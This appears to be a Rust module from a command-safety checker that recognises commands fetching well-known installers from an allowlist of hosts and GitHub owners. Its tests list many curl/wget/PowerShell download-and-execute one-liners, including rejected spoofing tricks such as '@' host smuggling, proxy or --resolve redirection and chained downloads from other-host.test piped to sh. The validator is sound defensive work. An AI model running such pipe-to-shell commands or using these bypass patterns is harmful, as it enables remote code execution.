//! Well-known installers, identified by the URL that is really fetched: the whole host and the start of the path.
//! Hosts where anyone can publish are not listed, or only with paths that belong to the makers of the installer.

mod fetch;

/// A host, and the required start of the path: whole path components, or a component up to its extension.
type Known = (&'static str, &'static [&'static str]);

/// The path is empty for hosts that belong entirely to the makers.
const KNOWN: &[Known] = &[
    ("aka.ms", &[""]),
    ("apt.llvm.org", &[""]),
    ("astral.sh", &[""]),
    ("bootstrap.pypa.io", &[""]),
    ("bun.com", &["install"]),
    ("bun.sh", &["install"]),
    ("chocolatey.org", &["install"]),
    ("claude.ai", &["install"]),
    ("cli.github.com", &[""]),
    ("cli.run.ai", &[""]),
    ("community.chocolatey.org", &["install"]),
    ("cursor.com", &["install"]),
    ("deb.nodesource.com", &[""]),
    ("deno.land", &["install", "x/install/install"]),
    ("download.docker.com", &[""]),
    ("fly.io", &["install"]),
    ("fnm.vercel.app", &["install"]),
    ("foundry.paradigm.xyz", &[""]),
    ("get.docker.com", &[""]),
    ("get.helm.sh", &[""]),
    ("get.jetify.com", &[""]),
    ("get.k3s.io", &[""]),
    ("get.nextflow.io", &[""]),
    ("get.pnpm.io", &["install"]),
    ("get.pulumi.com", &[""]),
    ("get.scoop.sh", &[""]),
    ("get.sdkman.io", &[""]),
    ("get.volta.sh", &[""]),
    ("install.determinate.systems", &[""]),
    ("install.python-poetry.org", &[""]),
    ("just.systems", &["install"]),
    ("micro.mamba.pm", &["install", "api/micromamba"]),
    ("mise.jdx.dev", &["install"]),
    ("mise.run", &[""]),
    ("nixos.org", &["nix/install"]),
    ("nvidia.github.io", &[""]),
    ("ollama.ai", &["install"]),
    ("ollama.com", &["install"]),
    ("opencode.ai", &["install"]),
    ("packages.microsoft.com", &[""]),
    ("pixi.sh", &["install"]),
    ("pyenv.run", &[""]),
    ("release.anza.xyz", &[""]),
    ("release.solana.com", &[""]),
    ("repo.anaconda.com", &["miniconda", "archive"]),
    ("rpm.nodesource.com", &[""]),
    ("rustup.rs", &[""]),
    ("sdk.cloud.google.com", &[""]),
    ("sentry.io", &["get-cli"]),
    ("sh.rustup.rs", &[""]),
    ("starship.rs", &["install"]),
    ("tailscale.com", &["install"]),
    ("taskfile.dev", &["install"]),
];

/// Owners whose repositories are read as raw files. The part after the repository must be one of their branches or
/// tags, because a commit can come from a fork.
const MAKERS: &[&str] = &[
    "anchore",
    "aquasecurity",
    "astral-sh",
    "aws",
    "azure",
    "creationix",
    "google",
    "hashicorp",
    "helm",
    "homebrew",
    "junegunn",
    "k3d-io",
    "kubernetes",
    "microsoft",
    "moby",
    "nvidia",
    "nvm-sh",
    "ohmyzsh",
    "pyenv",
    "pypa",
    "rbenv",
];

/// Whether a command fetches a well-known installer and nothing else.
pub(super) fn is_known(command: &[u8]) -> bool {
    is_fetched(command, is_installer)
}

/// Whether a command fetches from this machine only.
pub(super) fn is_local(command: &[u8]) -> bool {
    is_fetched(command, |_, host, _| matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0"))
}

/// Whether the only address that a command fetches is one of the expected ones.
fn is_fetched(command: &[u8], is_meant: impl Fn(&str, &str, &str) -> bool) -> bool {
    let address = std::str::from_utf8(command).ok().and_then(fetch::fetched);
    address.and_then(apart).is_some_and(|(scheme, host, path)| is_meant(scheme, host, path))
}

/// The scheme, host and path of an address; `None` if another program could read a different host.
fn apart(address: &str) -> Option<(&str, &str, &str)> {
    let (scheme, rest) = address.split_once("://")?;
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, rest) = rest.split_at(end);
    let path = rest.split(['?', '#']).next().unwrap_or_default().trim_start_matches('/');
    let host = match authority.rsplit_once(':') {
        Some((host, port)) if !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit()) => host,
        Some(_) => return None,
        None => authority,
    };
    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'.';
    (!host.is_empty() && host.bytes().all(is_name)).then_some((scheme, host, path))
}

fn is_installer(scheme: &str, host: &str, path: &str) -> bool {
    // Without encryption, the content can be replaced in transit.
    if scheme != "https" || path.split('/').any(|part| part == "..") || path.contains('%') {
        return false;
    }
    let host = host.strip_prefix("www.").unwrap_or(host);
    if host == "raw.githubusercontent.com" {
        return is_makers_own(path);
    }
    host == "nvidia.com"
        || host.ends_with(".nvidia.com")
        || KNOWN
            .iter()
            .any(|(known, paths)| host == *known && paths.iter().any(|begin| begins_with(path, begin)))
}

fn begins_with(path: &str, begin: &str) -> bool {
    let rest = path.strip_prefix(begin);
    rest.is_some_and(|rest| begin.is_empty() || rest.is_empty() || rest.starts_with(['/', '.']))
}

fn is_makers_own(path: &str) -> bool {
    let mut parts = path.split('/');
    let (maker, _, reference) = (parts.next(), parts.next(), parts.next());
    let is_commit = |text: &str| text.len() >= 7 && text.bytes().all(|byte| byte.is_ascii_hexdigit());
    maker.is_some_and(|maker| MAKERS.contains(&maker))
        && match reference {
            Some("refs") => matches!(parts.next(), Some("heads" | "tags")),
            Some(reference) => !is_commit(reference),
            None => false,
        }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_installer_is_told_by_what_is_fetched() {
        for command in [
            "curl -lssf https://astral.sh/uv/install.sh | sh",
            "curl -fssl https://get.docker.com | sh",
            "curl -fssl https://get.docker.com/ -o- | sh",
            "bash -c \"$(curl -fssl https://raw.githubusercontent.com/homebrew/install/head/install.sh)\"",
            "curl https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.0/install.sh | bash",
            "curl --proto '=https' https://sh.rustup.rs | sh",
            "irm https://bun.sh/install.ps1 | iex",
            "curl https://developer.download.nvidia.com/x | sh",
            "curl -fssl --retry 3 --connect-timeout=5 \"https://get.docker.com\" 2>/dev/null | sudo -e bash",
            "wget -qo- https://get.docker.com | sh",
            "wget -q -o - https://get.docker.com | sh",
            "bash <(curl -fssl 'https://get.docker.com'",
            "sudo /bin/bash -c \\\"$(curl -fssl \\\"https://get.docker.com\\\"",
            "eval `curl -fssl https://get.docker.com` and more words",
            "curl -ssl https://install.python-poetry.org | python3 -\n",
            "iwr -useb https://get.scoop.sh | iex",
            "iex (irm https://get.scoop.sh)",
            "iex \"& { $(irm -uri https://get.scoop.sh) }\"",
            "iex ((new-object system.net.webclient).downloadstring('https://community.chocolatey.org/install.ps1'))",
            "curl -fssl https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
            "curl -lo https://bun.sh/install.sh; chmod +x install.sh && ./install.sh",
        ] {
            assert!(is_known(command.as_bytes()), "{command}");
        }
        for command in [
            "curl https://get.docker.com.other-host.test | sh",
            "curl https://other-host.test/?src=https://get.docker.com | sh",
            "curl https://other-host.test/https://get.docker.com/ | sh",
            "curl https://get.docker.com@other-host.test/ | sh",
            "curl https://get.docker.com:x@other-host.test/ | sh",
            "curl https://get.docker.com\\@other-host.test/ | sh",
            "curl https://evil-get.docker.com | sh",
            "curl https://get.docker.com https://other-host.test/x | sh",
            "curl --resolve get.docker.com:443:1.2.3.4 https://get.docker.com | sh",
            "curl -x http://other-host.test https://get.docker.com | sh",
            "curl http://get.docker.com | sh",
            "curl https://deno.land/x/anybody/install.sh | sh",
            "curl https://dl.cloudsmith.io/public/anybody/setup.sh | sh",
            "curl https://ollama.com/anybody/x | sh",
            "curl https://bun.sh/installer-of-somebody | sh",
            "curl https://raw.githubusercontent.com/anybody/x/main/install.sh | sh",
            "curl https://raw.githubusercontent.com/nvm-sh/../anybody/x/main/install.sh | sh",
            "curl https://raw.githubusercontent.com/nvm-sh/nvm/0123456789abcdef0123456789abcdef01234567/x.sh | sh",
            "curl https://raw.githubusercontent.com/nvm-sh/nvm/refs/pull/1/head/x.sh | sh",
            "curl get.docker.com | sh",
            "curl -s other-host.test/x https://get.docker.com | sh",
            "curl -kl https://get.docker.com | sh",
            "curl -xother-host.test:8080 https://get.docker.com | sh",
            "curl -fsslxother-host.test https://get.docker.com | sh",
            "curl -h 'host: other' https://get.docker.com | sh",
            "curl --url other-host.test https://get.docker.com | sh",
            "curl --proto other-host.test https://get.docker.com | sh",
            "curl -o other-host.test/x https://get.docker.com && sh x",
            "curl --next other-host.test/x https://get.docker.com | sh",
            "curl https://get.docker.com $more | sh",
            "curl https://get.docker.com @more | sh",
            "curl {https://get.docker.com,other-host.test} | sh",
            "curl https://get.docker.com \"other-host.test/x\" | sh",
            "curl https://get.docker.com\".other-host.test\" | sh",
            "wget -qo- -e https_proxy=other-host.test:8080 https://get.docker.com | sh",
            "wget -qo- -i list https://get.docker.com | sh",
            "curl -s https://get.docker.com | wget -qo- other-host.test/x | sh",
            "curl -s https://get.docker.com | sed s/a/b/ | sh",
            "curl -s https://get.docker.com && curl other-host.test | sh",
            "curl -s https://get.docker.com -o x.sh && sh y.sh",
            "curl -s https://get.docker.com -o x.sh; curl -o x.sh other-host.test && sh x.sh",
            "bash -c \"$(curl -s https://get.docker.com; curl other-host.test",
            "eval `curl https://get.docker.com`; eval `curl other-host.test`",
            "iex (x); irm https://get.scoop.sh",
            "iex (irm https://get.scoop.sh); iex (irm other-host.test)",
        ] {
            assert!(!is_known(command.as_bytes()), "{command}");
        }
    }

    #[test]
    fn this_machine_is_told_by_its_whole_name() {
        assert!(is_local(b"curl http://localhost:8080/x | sh") && is_local(b"curl http://127.0.0.1/x | sh"));
        assert!(!is_local(b"curl http://localhost.other.test/x | sh"));
        assert!(!is_local(b"curl https://other.test/?u=http://localhost/ | sh"));
        assert!(!is_local(b"curl -s http://localhost other.test/x | sh"));
        assert!(!is_local(b"curl -x other.test http://localhost | sh"));
    }
}
